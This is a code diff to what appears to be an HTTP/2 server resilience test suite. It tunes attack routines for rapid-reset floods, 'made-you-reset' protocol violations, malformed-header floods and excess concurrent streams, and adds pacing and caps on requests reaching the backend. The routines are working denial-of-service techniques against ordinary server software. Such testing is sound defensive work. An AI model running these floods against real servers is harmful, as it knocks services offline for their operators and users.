@@ -6,11 +6,20 @@ from .attack import ENDED, attack, flood
 
 ENOUGH = 20000
 
+# What two connections may get through to the backend before each of them has used up its resets, and had its streams answered.
+THROUGH = 800
+
 # Whatever a server takes for an error of the whole connection ends the attack as well.
 STOPPED = ENDED | {"GOAWAY " + error for error in wire.ERRORS}
 
 
-@attack("rapid-reset", "resets", ENDED)
+
+def is_reset(connection, sent):
+    """Whether the server has reset all that was opened: only then more of them are welcome."""
+    return len(connection.resets) >= sent
+
+
+@attack("rapid-reset", "resets", ENDED, most_requests=THROUGH)
 def rapid_reset(target, report):
     def make(connection, number, block):
         stream = connection.next_stream()
@@ -18,7 +27,7 @@ def rapid_reset(target, report):
     flood(target, report, make, ENOUGH, prepare=lambda _: target.request("/hang"))
 
 
-@attack("rapid-reset-upload", "resets", ENDED)
+@attack("rapid-reset-upload", "resets", ENDED, most_requests=THROUGH)
 def rapid_reset_upload(target, report):
     """The same in the middle of a body."""
     def make(connection, number, block):
@@ -35,10 +44,11 @@ def rapid_reset_mixed(target, report):
         if number % 2:
             return wire.headers(stream, blocks[0])
         return wire.headers(stream, blocks[1]) + wire.rst_stream(stream)
-    flood(target, report, make, ENOUGH, batch=50, prepare=lambda _: (target.request("/"), target.request("/hang")))
+    flood(target, report, make, ENOUGH, batch=50, prepare=lambda _: (target.request("/"), target.request("/hang")),
+          pace=lambda connection, sent: len(connection.ended) >= sent // 2)
 
 
-@attack("rapid-reset-tables", "resets", ENDED)
+@attack("rapid-reset-tables", "resets", ENDED, most_requests=THROUGH)
 def rapid_reset_tables(target, report):
     """With heads of a few octets, all of it in the dynamic table."""
     fields = (
@@ -53,7 +63,7 @@ def rapid_reset_tables(target, report):
     flood(target, report, make, ENOUGH)
 
 
-@attack("reset-finished", "glitches", ENDED)
+@attack("reset-finished", "resets", ENDED)
 def reset_finished(target, report):
     """RST_STREAM for a stream that is over already, again and again."""
     def prepare(connection):
@@ -72,8 +82,8 @@ def provoke(name, offence, head=None, method="GET", end_stream=True):
         def make(connection, number, _):
             stream = connection.next_stream()
             return wire.headers(stream, block, end_stream=end_stream) + offence(stream)
-        flood(target, report, make, ENOUGH, batch=20)
-    attack("made-you-reset-" + name, "resets", STOPPED)(run)
+        flood(target, report, make, ENOUGH, batch=20, pace=is_reset)
+    attack("made-you-reset-" + name, "resets", STOPPED, most_requests=THROUGH)(run)
 
 
 provoke("window-overflow", lambda stream: wire.window_update(stream, 0x7FFFFFFF))
@@ -96,10 +106,11 @@ provoke("trailers-without-end", lambda stream: wire.headers(stream, wire.fields(
 def malformed_heads(target, report):
     """Each stream is reset before it becomes a request."""
     block = target.request("/", more=(("Upper-Case", "1"),))
-    flood(target, report, lambda connection, number, _: wire.headers(connection.next_stream(), block), ENOUGH)
+    flood(target, report, lambda connection, number, _: wire.headers(connection.next_stream(), block), ENOUGH, batch=50,
+          pace=is_reset)
 
 
-@attack("streams-over-the-limit", "refusedStreams", STOPPED)
+@attack("streams-over-the-limit", "resets", STOPPED)
 def refused(target, report):
     """Requests that are not answered, far more than may be open, without regard to REFUSED_STREAM."""
     block = target.request("/hang")
